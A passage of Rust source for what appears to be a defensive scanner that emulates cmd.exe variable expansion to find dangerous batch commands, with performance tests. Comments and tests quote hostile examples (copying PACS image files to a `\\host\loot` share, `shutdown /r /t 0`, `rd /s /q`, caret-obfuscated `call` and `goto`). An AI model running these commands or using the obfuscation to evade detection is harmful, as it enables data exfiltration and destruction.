        let mut raw: Vec<Option<Vec<u8>>> = Vec::with_capacity(self.set.len());
        for k in 0..self.set.len() {
            raw.push(None);
            let built = match &self.set[k].2 {
                Some(value) if memchr::memchr(b'%', value).is_some() && !self.spent => {
                    Some(expand_set_value(value, &latest))
                }
                _ => None,
            };
            if let Some(built) = built
                && self.charge(built.len())
            {
                raw[k] = self.set[k].2.replace(built);
            }
            latest.insert(self.set[k].1.clone(), self.set[k].2.clone());
        }
        // Read top to bottom, a value is built once, from the values set above it.
        if self.jumps(bytes) {
            self.add_built_variants(&raw);
        }
        for (i, (_, name, _)) in self.set.iter().enumerate() {
            self.by_name.entry(name.clone()).or_default().push(i);
        }
    }

    /// A value built from other variables (`set s=%t%`) takes theirs as the `set` line
    /// runs, and a `goto` may run it after any `set` of them (review rv43-screen, case2:
    /// `set s=%t%` with `t` set after a `goto` was expanded with `t` unset only). Beside
    /// the value built in file order, the value built with the `k`-th value of each
    /// variable it names is kept as another `set` of the name at the same place (before
    /// it, so a look-up in file order still takes the value built in file order), for
    /// `k` up to [`MAX_VARIABLE_VALUES_TRIED`]: [`command_at_each_value`] tries them as it
    /// tries a name set twice, and says when a name has more values than it tries. In
    /// file order, so a chain (`set t=%u%`, `set s=%t%`) takes the values built before
    /// it. Each value built is charged to [`MAX_EXPANDED_BYTES`]; a name keeps at most
    /// one value more than are tried (enough for the warning), so the `set` commands
    /// grow by at most that many per name.
    fn add_built_variants(&mut self, raw: &[Option<Vec<u8>>]) {
        use std::collections::HashMap;
        let mut values: HashMap<Vec<u8>, Vec<Vec<u8>>> = HashMap::new();
        for (_, name, value) in &self.set {
            if let Some(value) = value {
                values.entry(name.clone()).or_default().push(value.clone());
            }
        }
        let mut variants: Vec<(usize, Vec<u8>, Option<Vec<u8>>)> = Vec::new();
        for (k, raw) in raw.iter().enumerate() {
            let Some(raw) = raw else { continue };
            let (offset, name) = (self.set[k].0, self.set[k].1.clone());
            let named = referenced_names(raw);
            // Only a name set more than once, or after this line, brings another value.
            let most = named
                .iter()
                .map(|n| values.get(n).map_or(0, Vec::len))
                .max()
                .unwrap_or(0);
            for choice in 0..most.min(MAX_VARIABLE_VALUES_TRIED) {
                if values.get(&name).map_or(0, Vec::len) > MAX_VARIABLE_VALUES_TRIED || self.spent {
                    break;
                }
                let chosen: HashMap<Vec<u8>, Option<Vec<u8>>> = named
                    .iter()
                    .filter_map(|n| {
                        let all = values.get(n)?;
                        let value = all.get(choice).or_else(|| all.last())?;
                        Some((n.clone(), Some(value.clone())))
                    })
                    .collect();
                let built = expand_set_value(raw, &chosen);
                if !self.charge(built.len()) {
                    break;
                }
                let known = values.entry(name.clone()).or_default();
                if !known.contains(&built) {
                    known.push(built.clone());
                    variants.push((offset, name.clone(), Some(built)));
                }
            }
        }
        if variants.is_empty() {
            return;
        }
        // Before the value built in file order at the same place (a stable sort).
        variants.append(&mut self.set);
        variants.sort_by_key(|(offset, _, _)| *offset);
        self.set = variants;
    }
}

/// Whether `bytes` hold a `goto` or a `call :label` (any case): only then can a line run
/// after a `set` written below it or before the last `set` above it.
fn may_jump(bytes: &[u8]) -> bool {
    memchr::memchr3_iter(b'g', b'G', b':', bytes).any(|at| match bytes[at] {
        b':' => bytes[..at]
            .iter()
            .rev()
            .skip_while(|&&b| is_token_delimiter(b))
            .take(4)
            .map(u8::to_ascii_lowercase)
            .eq(b"llac".iter().copied()),
        // `g^oto` too ([`keyword_len`]).
        _ => keyword_len(&bytes[at..], b"goto").is_some(),
    })
}

/// The names (lower case) of the variables `%NAME%` in `value` refers to, each once.
fn referenced_names(value: &[u8]) -> Vec<Vec<u8>> {
    let mut names: Vec<Vec<u8>> = Vec::new();
    let mut i = 0;
    while let Some(found) = value.get(i..).and_then(|rest| memchr::memchr(b'%', rest)) {
        let open = i + found;
        let Some(close) = memchr::memchr(b'%', &value[open + 1..]).map(|n| open + 1 + n) else {
            break;
        };
        let name = &value[open + 1..close];
        if is_variable_name(name) {
            let lower = name.to_ascii_lowercase();
            if !names.contains(&lower) {
                names.push(lower);
            }
            i = close + 1;
        } else {
            i = close;
        }
    }
    names
}

enum Lookup<'v> {
    Value(&'v [u8]),
    FromInput,
    NotKept,
    Unset,
}

/// `set NAME=value`, `set "NAME=value"` or `set /p NAME=prompt` at the start of
/// `command`: the name (lower case) and the value as cmd.exe stores it (carets removed;
/// `None` for `/p`, whose value is read from input). `set /a` (arithmetic) is no name.
fn set_command(command: &[u8]) -> Option<(Vec<u8>, Option<Vec<u8>>)> {
    let len = keyword_len(command, b"set")?;
    if !is_token_delimiter(*command.get(len)?) {
        return None;
    }
    // No read below passes the next place a candidate starts (an operator or a line
    // end, or for a quoted value its closing quote): a line of `&set a&set a...` was
    // read to its end from each `set` (5 MB took half a minute, a 64 MiB window hours).
    let mut rest = &command[len..];
    rest = &rest[rest.iter().take_while(|&&b| is_token_delimiter(b)).count()..];
    let mut from_input = false;
    if rest.len() >= 2 && rest[0] == b'/' {
        match rest[1].to_ascii_lowercase() {
            b'p' => from_input = true,
            _ => return None,
        }
        rest = &rest[2..];
        rest = &rest[rest.iter().take_while(|&&b| is_token_delimiter(b)).count()..];
    }
    let quoted = rest.first() == Some(&b'"');
    if quoted {
        rest = &rest[1..];
        // `set "a=b&c" & x`: the value ends at its closing quote (or the line's end).
        rest = &rest[..memchr::memchr2(b'"', b'\n', rest).unwrap_or(rest.len())];
    } else {
        rest = &rest[..memchr::memchr3(b'&', b'|', b'\n', rest).unwrap_or(rest.len())];
        rest = &rest[..memchr::memchr(b'\r', rest).unwrap_or(rest.len())];
        // In a block (`if x (set p=powershell)`) a `)` ends the command: the value is
        // cut at a `)` that closes no `(` of its own (`C:\Program Files (x86)\...` kept).
        rest = &rest[..unmatched_close(rest).unwrap_or(rest.len())];
    }
    let eq = memchr::memchr(b'=', rest)?;
    // cmd.exe removes carets before `set` reads its name (`set ^p=x` sets `p`).
    let name: Vec<u8> = rest[..eq.min(BATCH_VARIABLE_KEPT)]
        .iter()
        .filter(|&&b| quoted || b != b'^')
        .map(u8::to_ascii_lowercase)
        .collect();
    if name.is_empty() {
        return None;
    }
    if from_input {
        return Some((name, None));
    }
    let mut value = Vec::new();
    let mut escaped = false;
    for &b in rest[eq + 1..].iter().take(BATCH_VARIABLE_KEPT) {
        if b == b'^' && !escaped && !quoted {
            escaped = true;
            continue;
        }
        escaped = false;
        value.push(b);
    }
    Some((name, Some(value)))
}

/// A command's name as cmd.exe's percent expansion leaves it.
enum Expanded {
    /// The line, with the expansions in its first word done.
    Line(Vec<u8>),
    /// The name is built from what is known only when it runs: how, said in a finding.
    Built(String),
    /// [`MAX_EXPANDED_BYTES`] was reached expanding the name.
    Spent,
}

/// The most `%NAME%` of one command's arguments [`expand_arguments`] looks up: each is a
/// look-up among the file's `set` commands (up to [`MAX_BATCH_VARIABLES`]). A command
/// holding more is read with the rest as written and, when that finds nothing, is a
/// `not-inspected` warning naming this bound.
pub const MAX_EXPANDED_ARGUMENTS: usize = 16;

/// What [`expand_arguments`] made of a command's line.
struct ExpandedArguments {
    /// The line, expanded, to the command's end and the byte ending it.
    line: Vec<u8>,
    /// More than [`MAX_EXPANDED_ARGUMENTS`] variables were there.
    cut: bool,
    /// Why a variable's value is not known here (read from input, set from a loop, one
    /// of more than were kept), for the first such.
    unknown: Option<String>,
    /// [`MAX_EXPANDED_BYTES`] was reached on this line.
    spent: bool,
    /// The line expanded is longer than [`CMD_LINE_LIMIT`]: cmd.exe refuses to run it.
    too_long: bool,
}

/// Whether `before`, what cmd.exe read before a command's program, holds the keyword
/// `call` (`call copy …`, `@call`, `if x call …`).
fn is_called(before: &[u8]) -> bool {
    before
        .split(|&b| is_token_delimiter(b) || matches!(b, b'@' | b'(' | b'\r'))
        .any(is_call_word)
}

/// Where `keyword` (lower case) ends at the start of `bytes`, read as cmd.exe reads a
/// keyword: in any case, each letter possibly escaped by a caret, which cmd.exe removes
/// before it recognises `if`, `for`, `do`, `else`, `not`, `set`, `goto` (review
/// rv44-screen case5: `i^f 1==1 shutdown /r /t 0`, `s^et`, `g^oto` were read as no
/// keyword; `call` already was, [`is_call_word`]). `None` when they do not start so.
fn keyword_len(bytes: &[u8], keyword: &[u8]) -> Option<usize> {
    let mut at = 0;
    for letter in keyword {
        if bytes.get(at) == Some(&b'^') {
            at += 1;
        }
        if !bytes.get(at)?.eq_ignore_ascii_case(letter) {
            return None;
        }
        at += 1;
    }
    Some(at)
}

/// Whether `word` is `keyword` as cmd.exe reads one ([`keyword_len`]).
fn is_keyword(word: &[u8], keyword: &[u8]) -> bool {
    keyword_len(word, keyword) == Some(word.len())
}

/// Whether `word` is the keyword `call` as cmd.exe recognises it: carets outside quotes
/// are removed first, so `c^a^l^l` is `call` (review rv43-screen, case3:
/// `c^a^l^l copy C:\PACS\*.dcm \\host\loot` was clean). A quote makes it a
/// program's name, never the keyword; a caret escapes the byte after it (`^^` is a
/// caret, so `c^^all` is no `call`), and one at its end the delimiter after it, which
/// makes the word longer than `call`.
fn is_call_word(word: &[u8]) -> bool {
    if word.contains(&b'"') {
        return false;
    }
    let mut letters = Vec::with_capacity(4);
    let mut bytes = word.iter();
    while let Some(&b) = bytes.next() {
        let letter = if b == b'^' {
            bytes.next().copied()
        } else {
            Some(b)
        };
        // An escaped delimiter at the end, or more than four letters: no `call`.
        match letter {
            Some(letter) if letters.len() < 4 => letters.push(letter),
            _ => return false,
        }
    }
    letters.eq_ignore_ascii_case(b"call")
}

/// [`expand_arguments_pass`] as cmd.exe expands the line of a command: once, or for a
/// command `call` runs (`called`) twice: the line's `%%` is `%` after the first pass and
/// `call` expands the result again (review of session 42: `call copy … %%s:~%n%%%` is
/// `%s:~0%` after the first pass, the share after the second, and was clean). Both
/// passes charge the one budget ([`MAX_EXPANDED_BYTES`]).
fn expand_arguments(
    bytes: &[u8],
    at: usize,
    start: &[u8],
    variables: &mut Variables,
    called: bool,
) -> Option<ExpandedArguments> {
    let mut first = expand_arguments_pass(bytes, at, start, variables, called)?;
    if called
        && memchr::memchr2(b'%', b'!', &first.line).is_some()
        && !first.spent
        && let Some(second) = expand_arguments_pass(bytes, at, &first.line, variables, false)
    {
        first = ExpandedArguments {
            line: second.line,
            cut: first.cut || second.cut,
            unknown: first.unknown.or(second.unknown),
            spent: second.spent,
            too_long: false,
        };
    }
    // Counted without the CRs cmd.exe deleted and the byte ending the command.
    first.too_long = first
        .line
        .iter()
        .filter(|&&b| !matches!(b, b'\r' | b'\n'))
        .count()
        > CMD_LINE_LIMIT;
    Some(first)
}

/// The command at `start` (at `at` in `bytes`), when its program is a tool of [`BATCH`]
/// (named bare or by its path), with each variable of its arguments that the file set
/// before it replaced by the value, as cmd.exe expands a line before it runs it (session
/// 41: `set s=\\host\loot` then `copy C:\PACS\*.dcm %s%` was clean): `%NAME%`, a
/// substring or replacement of it (`%s:~0,20%`, `%s:a=b%`) and `!NAME!` (delayed
/// expansion: more, never less, whether the file turned it on or not; review of session
/// 41). Any other `%` is kept as written (`%TEMP%`, a `for` loop's `%%f`, `%~nf`). `None`
/// when nothing was expanded, nothing unknown and no bound reached.
/// `reduce_doubled`: `%%` is read as `%` (the first pass of a `call`), else kept.
fn expand_arguments_pass(
    bytes: &[u8],
    at: usize,
    start: &[u8],
    variables: &mut Variables,
    reduce_doubled: bool,
) -> Option<ExpandedArguments> {
    let end = command_len(start);
    let line = &start[..end];
    let first = &line[..line
        .iter()
        .position(|&b| ends_word(b))
        .unwrap_or(line.len())];
    let file = &first[first
        .iter()
        .rposition(|&b| b == b'\\')
        .map_or(0, |at| at + 1)..];
    // cmd.exe removes carets and quotes from the name before it runs it (`c^o^p^y`).
    let file: Vec<u8> = file
        .iter()
        .filter(|&&b| !matches!(b, b'"' | b'^'))
        .map(u8::to_ascii_lowercase)
        .collect();
    if !BATCH.contains(&without_program_extension(&file))
        || memchr::memchr2(b'%', b'!', line).is_none()
    {
        return None;
    }
    if variables.spent {
        // Read as written, and said: the budget, spent on an earlier line or on the
        // file's `set` values, is why (review of session 42: once spent while the
        // `set` values were expanded, no line said it).
        return Some(ExpandedArguments {
            line: to_command_end(start).to_vec(),
            cut: false,
            unknown: None,
            spent: true,
            too_long: false,
        });
    }
    let mut out = Vec::with_capacity(line.len() + 1);
    let (mut looked, mut changed, mut cut, mut spent) = (0, false, false, false);
    let mut unknown = None;
    let mut i = 0;
    while let Some(&b) = line.get(i) {
        if b != b'%' && b != b'!' {
            out.push(b);
            i += 1;
            continue;
        }
        // `%%`: a literal `%` (or a `for` loop's `%%f`), both kept; `%` after a
        // `call`'s first pass, which its second reads.
        if b == b'%' && line.get(i + 1) == Some(&b'%') {
            if reduce_doubled {
                out.push(b'%');
                changed = true;
            } else {
                out.extend_from_slice(b"%%");
            }
            i += 2;
            continue;
        }
        let body = memchr::memchr(b, &line[i + 1..]).map(|n| &line[i + 1..i + 1 + n]);
        // `NAME`, or `NAME` and the edit after its colon (`%` only).
        let reference = body.and_then(|body| match memchr::memchr(b':', body) {
            Some(colon) if b == b'%' => {
                let (name, edit) = (&body[..colon], &body[colon + 1..]);
                (is_variable_name(name) && expansion_edit(edit).is_some())
                    .then_some((name, Some(edit)))
            }
            _ => is_variable_name(body).then_some((body, None)),
        });
        let Some((name, edit)) = reference else {
            out.push(b);
            i += 1;
            continue;
        };
        let written = &line[i..i + body.map_or(0, <[u8]>::len) + 2];
        if looked == MAX_EXPANDED_ARGUMENTS {
            cut = true;
            out.extend_from_slice(&line[i..]);
            break;
        }
        looked += 1;
        i += written.len();
        let lower = name.to_ascii_lowercase();
        let others = variables.alternatives(bytes, &lower, at);
        variables.alternatives = variables.alternatives.max(others);
        let value = match variables.at(bytes, &lower, at) {
            Lookup::Value(value) if value.iter().any(|&b| b == b'%' || b == b'!') => {
                if variables.spent {
                    // Its `set` was left as written when the budget ran out: that, not
                    // a loop, is why it is not known (review of session 42).
                    spent = true;
                } else {
                    unknown.get_or_insert_with(|| {
                        format!(
                            "the variable {}, set from a loop or from other variables not known here",
                            escape_bytes(name)
                        )
                    });
                }
                None
            }
            Lookup::Value(value) => Some(match edit {
                Some(edit) => edited(value, edit).unwrap_or_else(|| value.to_vec()),
                None => value.to_vec(),
            }),
            Lookup::FromInput => {
                unknown.get_or_insert_with(|| {
                    format!(
                        "the variable {}, read from input (set /p)",
                        escape_bytes(name)
                    )
                });
                None
            }
            Lookup::NotKept => {
                unknown.get_or_insert_with(|| {
                    format!(
                        "the variable {}, one of more than {MAX_BATCH_VARIABLES} the file sets (MAX_BATCH_VARIABLES)",
                        escape_bytes(name)
                    )
                });
                None
            }
            Lookup::Unset => None,
        };
        match value {
            Some(value) if variables.charge(value.len()) => {
                out.extend_from_slice(&value);
                changed = true;
            }
            Some(_) => {
                spent = true;
                out.extend_from_slice(written);
                out.extend_from_slice(&line[i..]);
                break;
            }
            // `!NAME!` of a variable nothing sets is text (delayed expansion off, or
            // nothing to expand); `%NAME%` of one is nothing, but kept as written
            // (no word of an argument is made by removing it here).
            None => out.extend_from_slice(written),
        }
    }
    out.extend_from_slice(start.get(end..=end).unwrap_or_default());
    (changed || cut || spent || unknown.is_some()).then_some(ExpandedArguments {
        line: out,
        cut,
        unknown,
        spent,
        too_long: false,
    })
}

/// The line at `start` (at `at` in `bytes`) with the `%` expansions of its first word
/// done as cmd.exe does them in a batch file, or `None` when the first word has no `%`:
/// `%%` is `%`, `%1`..`%9` and `%*` are the (absent) arguments, `%NAME%` is the value the
/// file last set before the line, a Windows variable as written, and nothing when unset;
/// a substring or replacement (`%NAME:~0,1%`, `%NAME:a=b%`) or a value read from input
/// builds the name ([`Expanded::Built`]).
fn expand_program_name(
    bytes: &[u8],
    at: usize,
    start: &[u8],
    variables: &mut Variables,
) -> Option<Expanded> {
    // Each step reads forward only, and no read passes the next place a candidate
    // command starts (an operator or a line end ends the word, the command and the copy;
    // a variable's body ends at the next `%`): linear over the bytes searched, however
    // many candidates a line of `&%&%...` makes.
    let first_word = start
        .iter()
        .position(|&b| ends_word(b))
        .unwrap_or(start.len());
    if !start[..first_word].iter().any(|&b| b == b'%' || b == b'!') {
        return None;
    }
    // The command after the name, to its operator or line end (kept for its arguments).
    let rest_of = |from: usize| {
        let rest = &start[from..];
        to_command_end(rest)
    };
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&b) = start.get(i) {
        if b == b'!'
            && let Some(close) = memchr::memchr2(b'!', b'\n', &start[i + 1..])
                .map(|n| i + 1 + n)
                .filter(|&close| start[close] == b'!')
            && is_variable_name(&start[i + 1..close])
            && !matches!(
                variables.at(bytes, &start[i + 1..close].to_ascii_lowercase(), at),
                Lookup::Unset
            )
        {
            // `!NAME!` of a variable the file sets: with delayed expansion on
            // (`setlocal enabledelayedexpansion`, `cmd /v`) it is its value when run.
            return Some(Expanded::Built(format!(
                "the variable {} by delayed expansion (!NAME!)",
                escape_bytes(&start[i + 1..close])
            )));
        }
        if b != b'%' {
            if ends_word(b) {
                break;
            }
            out.push(b);
            i += 1;
            continue;
        }
        let p = i;
        match start.get(p + 1) {
            Some(b'%') => {
                // `call %%NAME%%` (or a `for` body): `%NAME%` after this expansion, which
                // `call` expands again.
                let twice = start[p + 2..]
                    .iter()
                    .position(|&b| b == b'%' || ends_word(b))
                    .map(|n| p + 2 + n)
                    .filter(|&close| start.get(close..close + 2) == Some(&b"%%"[..]))
                    .map(|close| &start[p + 2..close])
                    .filter(|name| is_variable_name(name));
                if let Some(name) = twice
                    && !matches!(
                        variables.at(bytes, &name.to_ascii_lowercase(), at),
                        Lookup::Unset
                    )
                {
                    return Some(Expanded::Built(format!(
                        "the variable {} expanded a second time (call %%NAME%%)",
                        escape_bytes(name)
                    )));
                }
                out.push(b'%');
                i = p + 2;
                continue;
            }
            Some(b) if b.is_ascii_digit() || *b == b'*' => {
                i = p + 2; // an argument: none when the file is started
                continue;
            }
            Some(b'~') => {
                // `%~dp0` is the batch file's own folder (`C:\dir\`): `%~dp0evil.exe` runs
                // the program beside it. Other modifiers of `%0`, and those of the
                // (absent) arguments, name no folder a program is looked for in.
                let modifiers = start[p + 2..]
                    .iter()
                    .take_while(|b| b.is_ascii_alphabetic() || **b == b'$')
                    .count();
                let digit = p + 2 + modifiers;
                if start.get(digit).is_some_and(u8::is_ascii_digit) {
                    let folder = &start[p + 2..digit];
                    if start[digit] == b'0'
                        && !folder.is_empty()
                        && folder
                            .iter()
                            .all(|b| matches!(b.to_ascii_lowercase(), b'd' | b'p'))
                    {
                        out.extend_from_slice(b"C:\\dir\\");
                    }
                    i = digit + 1;
                    continue;
                }
            }
            _ => {}
        }
        // A variable runs to the next `%` on the line, delimiters and all.
        let close = memchr::memchr(b'%', &start[p + 1..])
            .map(|n| p + 1 + n)
            .filter(|&close| memchr::memchr(b'\n', &start[p + 1..close]).is_none());
        let Some(close) = close else {
            i = p + 1; // a lone `%` is removed
            continue;
        };
        let body = &start[p + 1..close];
        if let Some(colon) = memchr::memchr(b':', body) {
            // What runs is a program's name only if the bytes before it in the word are
            // (a path, or nothing): binary bytes around a chance `%x:y=z%` name nothing.
            let literal = out.iter().all(|b| b.is_ascii_graphic());
            let name = &body[..colon];
            let edit = expansion_edit(&body[colon + 1..]).filter(|_| literal);
            let defined = is_variable_name(name) && {
                let lower = name.to_ascii_lowercase();
                WINDOWS_VARIABLES.contains(&&lower[..])
                    || matches!(variables.at(bytes, &lower, at), Lookup::Value(_))
            };
            match edit {
                Some(how) if defined => return Some(Expanded::Built(how.to_owned())),
                // An edit of a variable nothing sets: cmd.exe drops `%NAME:` and reads on
                // from the edit's text (a Python `"%s:\n--x=%s"` is no command).
                Some(_) => i = p + 1 + colon + 1,
                None => i = close + 1, // no edit cmd.exe reads: nothing a name is built from
            }
            continue;
        }
        i = close + 1;
        if !is_variable_name(body) {
            continue; // no variable a file sets: nothing, in a batch file
        }
        let name = body.to_ascii_lowercase();
        // A `goto` may run the line after any `set` of the name: each value is tried
        // for the name as for the arguments ([`command_at_each_value`]; review
        // rv43-screen, case1: `%c% C:\PACS\*.dcm \\h\loot` with `set c=copy` after a
        // `goto`, or set twice, was read with the file-order value only).
        // Only in a file that jumps: read top to bottom, `%p%` before `set p=…` is empty.
        if variables.jumps(bytes) {
            let others = variables.alternatives(bytes, &name, at);
            variables.alternatives = variables.alternatives.max(others);
        }
        match variables.at(bytes, &name, at) {
            // A value with `%` or `!` expanded when it was set (`set q=%p%shell`, `set
            // p=%%a` in a `for`): what it holds is known only when the file runs.
            Lookup::Value(value) if value.iter().any(|&b| b == b'%' || b == b'!') => {
                return Some(Expanded::Built(format!(
                    "the variable {}, set from other variables or a loop",
                    escape_bytes(body)
                )));
            }
            Lookup::Value(value) => {
                let value = value.to_vec();
                if !variables.charge(value.len()) {
                    return Some(Expanded::Spent);
                }
                out.extend_from_slice(&value);
            }
            Lookup::FromInput => {
                return Some(Expanded::Built(format!(
                    "the variable {} read from input (set /p)",
                    escape_bytes(body)
                )));
            }
            Lookup::NotKept => {
                return Some(Expanded::Built(format!(
                    "the variable {}, one of more than {MAX_BATCH_VARIABLES} the file sets (MAX_BATCH_VARIABLES)",
                    escape_bytes(body)
                )));
            }
            Lookup::Unset if WINDOWS_VARIABLES.contains(&&name[..]) => {
                out.extend_from_slice(&start[p..=close]);
            }
            Lookup::Unset => {} // unset: nothing, in a batch file
        }
    }
    out.extend_from_slice(rest_of(i));
    Some(Expanded::Line(out))
}

/// A variable's name as batch files write them: letters, digits and `_ . $ # @ ( ) -`
/// (`ProgramFiles(x86)`), at most [`BATCH_VARIABLE_KEPT`] bytes.
fn is_variable_name(name: &[u8]) -> bool {
    !name.is_empty()
        && name.len() <= BATCH_VARIABLE_KEPT
        && name
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || b"_.$#@()-".contains(b))
}

/// `value`, a `set` command's value, with each `%NAME%` whose value `latest` holds
/// replaced by it, as cmd.exe expands the line before `set` stores it; `%%`, a loop's
/// variable and a value read from input are kept as written. At most
/// [`CMD_LINE_LIMIT`] bytes.
fn expand_set_value(
    value: &[u8],
    latest: &std::collections::HashMap<Vec<u8>, Option<Vec<u8>>>,
) -> Vec<u8> {
    let mut out = Vec::with_capacity(value.len());
    let mut i = 0;
    while let Some(&b) = value.get(i) {
        if out.len() >= CMD_LINE_LIMIT {
            break;
        }
        let name = (b == b'%')
            .then(|| memchr::memchr(b'%', &value[i + 1..]))
            .flatten()
            .map(|n| &value[i + 1..i + 1 + n])
            .filter(|name| is_variable_name(name));
        match name.map(|name| (name, latest.get(&name.to_ascii_lowercase()))) {
            Some((name, Some(Some(set)))) => {
                out.extend_from_slice(set);
                i += name.len() + 2;
            }
            // Unset: nothing, as in a batch file (a Windows variable kept as written).
            Some((name, None)) if !WINDOWS_VARIABLES.contains(&&name.to_ascii_lowercase()[..]) => {
                i += name.len() + 2;
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    out.truncate(CMD_LINE_LIMIT);
    out
}

/// `value` as cmd.exe edits it for `%NAME:edit%` (`edit` after the colon): a substring
/// (`~n`, `~n,m`, either negative: counted from the end) or a replacement (`a=b`, `a`
/// matched in any case; `*a=b` replaces up to and through the first `a`). `None` when
/// the edit is none cmd.exe reads.
fn edited(value: &[u8], edit: &[u8]) -> Option<Vec<u8>> {
    expansion_edit(edit)?;
    if let Some(range) = edit.strip_prefix(b"~") {
        let number = |n: &[u8]| -> Option<i64> { std::str::from_utf8(n).ok()?.parse().ok() };
        let len = i64::try_from(value.len()).ok()?;
        let (start, count) = match memchr::memchr(b',', range) {
            Some(comma) => (number(&range[..comma])?, Some(number(&range[comma + 1..])?)),
            None => (number(range)?, None),
        };
        let from = if start < 0 {
            (len + start).max(0)
        } else {
            start.min(len)
        };
        let to = match count {
            None => len,
            Some(count) if count < 0 => (len + count).max(from),
            Some(count) => from.saturating_add(count).min(len),
        };
        let (from, to) = (usize::try_from(from).ok()?, usize::try_from(to).ok()?);
        return Some(value.get(from..to.max(from)).unwrap_or_default().to_vec());
    }
    let eq = memchr::memchr(b'=', edit)?;
    let (find, with) = (&edit[..eq], &edit[eq + 1..]);
    let (through_first, find) = match find.strip_prefix(b"*") {
        Some(rest) => (true, rest),
        None => (false, find),
    };
    if find.is_empty() {
        return Some(value.to_vec());
    }
    let lower = value.to_ascii_lowercase();
    let find = find.to_ascii_lowercase();
    let mut out = Vec::with_capacity(value.len());
    let mut i = 0;
    while i < value.len() {
        if lower[i..].starts_with(&find) {
            out.extend_from_slice(with);
            i += find.len();
            if through_first {
                out.extend_from_slice(&value[i..]);
                return Some(out);
            }
        } else if through_first {
            i += 1;
        } else {
            out.push(value[i]);
            i += 1;
        }
    }
    Some(if through_first { value.to_vec() } else { out })
}

/// The edit after the `:` of `%NAME:...%`, if cmd.exe reads one there: a substring
/// (`~n` or `~n,m`, numbers possibly negative) or a replacement (`a=b`, printable).
fn expansion_edit(edit: &[u8]) -> Option<&'static str> {
    if let Some(range) = edit.strip_prefix(b"~") {
        let number = |n: &[u8]| {
            let digits = n.strip_prefix(b"-").unwrap_or(n);
            !digits.is_empty() && digits.len() <= 10 && digits.iter().all(u8::is_ascii_digit)
        };
        let ok = match memchr::memchr(b',', range) {
            Some(comma) => number(&range[..comma]) && number(&range[comma + 1..]),
            None => number(range),
        };
        return ok.then_some("a substring of a variable (%NAME:~n,m%)");
    }
    let eq = memchr::memchr(b'=', edit)?;
    (eq > 0 && edit.iter().all(|b| (b' '..=b'~').contains(b)))
        .then_some("a replacement in a variable (%NAME:a=b%)")
}

fn line_excerpt(bytes: &[u8], at: usize) -> String {
    const SHOWN: usize = 60;
    // The shown part only is searched for the line's end: a search to the line feed
    // from each chance finding of a line without one was quadratic (review rv36-screen).
    let line = &bytes[at..];
    let line = &line[..line.len().min(SHOWN)];
    let end = memchr::memchr(b'\n', line).unwrap_or(line.len());
    escape_bytes(&line[..end])
}

#[cfg(test)]
mod tests {
    thread_local! {
        /// Candidates (a `!` for ex, a separator for batch) looked at past the one-byte
        /// filters, on this thread.
        pub(super) static LOOKED_AT: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
        /// Batch candidates whose first word could name a program, read in full.
        pub(super) static READ_AS_COMMANDS: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
        /// Words the shell model searched the lists of command names for.
        pub(super) static LISTS_SEARCHED: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
        /// Bytes read to find where a carriage-return-bearing command ends.
        pub(super) static CARRIAGE_READ: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
        /// Bytes the expansion of batch variables wrote ([`super::MAX_EXPANDED_BYTES`]).
        pub(super) static EXPANDED: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
    }

    /// Review rv36-screen: reads that stopped at a line feed but not at the Ctrl-Z
    /// cmd.exe reads as one (a name's first word, the command after a path), or not at
    /// an operator (the arguments without their carets), or searched a whole line for
    /// a 60-byte excerpt, went from each command of a line without a line feed to its
    /// end: `<Ctrl-Z>a` repeated, 32 KB took 20 s of CPU; `&rd x` 128 KB more than 60 s;
    /// `<Ctrl-Z>j.CPL<CR>` in binary values (a chance finding each, the search going on)
    /// 256 KB 17 s. Each now ends with its command: 256 KiB of each shape is read well
    /// within a deadline quadratic reads miss by minutes (a debug build: ~0.1 s).
    #[test]
    fn commands_on_a_line_without_a_line_feed_are_each_read_to_their_end_only() {
        let deadline = || crate::budget::Budget::new(std::time::Duration::from_secs(30)).clock();
        let shapes: [(&[u8], bool); 7] = [
            (b"\x1aa", false),
            (b"\x1ard x", false),
            (b"&rd x", false),
            (b"&cmd x", false),
            (b"\x1a%a", false),
            (b"\x1aj.CPL\r", true),
            (b"&j.CPL\r", true),
        ];
        for (unit, binary) in shapes {
            let bytes = unit.repeat((256 << 10) / unit.len());
            let whole = 0..bytes.len();
            let ranges: &[std::ops::Range<usize>] = if binary {
                std::slice::from_ref(&whole)
            } else {
                &[]
            };
            let found = super::find_batch_command_within(&bytes, ranges, &deadline());
            assert!(
                found
                    .as_ref()
                    .is_none_or(|found| found.kind != super::FindingKind::NotInspected),
                "{unit:?}: {found:?}"
            );
        }
    }

    /// Review r35-screen: a file of ~80,000 tiny binary values, each `a<CR>b<CR>` and
    /// no separator anywhere, took 28 times as long as the same file without carriage
    /// returns: each value's start, a candidate, was read on through the values after
    /// it (to CMD_LINE_LIMIT) and copied without its carriage returns. A value's first
    /// line ends with the value now: each byte is read for its own value, and a command
    /// inside a value is still found.
    #[test]
    fn tiny_binary_values_full_of_carriage_returns_are_each_read_once() {
        let value = b"a\rb\r";
        let header = [0u8; 12];
        let mut bytes = Vec::new();
        let mut ranges = Vec::new();
        for _ in 0..80_000 {
            bytes.extend_from_slice(&header);
            ranges.push(bytes.len()..bytes.len() + value.len());
            bytes.extend_from_slice(value);
        }
        let clock = crate::budget::Clock::default();
        CARRIAGE_READ.with(|n| n.set(0));
        assert_eq!(
            super::find_batch_command_within(&bytes, &ranges, &clock),
            None
        );
        let read = CARRIAGE_READ.with(|n| n.get());
        assert!(
            read <= 2 * bytes.len(),
            "{read} bytes read for carriage returns in a file of {}",
            bytes.len()
        );
        // A command in one of them is found all the same.
        let at = ranges[40_000].start;
        let command = b"r\rd /s /q C:\\x";
        let mut with = bytes[..at].to_vec();
        with.extend_from_slice(command);
        let end = with.len();
        with.extend_from_slice(&bytes[ranges[40_000].end..]);
        let shift = command.len() - value.len();
        let mut ranges_with: Vec<_> = ranges[..40_000].to_vec();
        ranges_with.push(at..end);
        ranges_with.extend(
            ranges[40_001..]
                .iter()
                .map(|r| r.start + shift..r.end + shift),
        );
        let found = super::find_batch_command_within(&with, &ranges_with, &clock);
        assert_eq!(found.map(|found| found.offset), Some(at));
    }

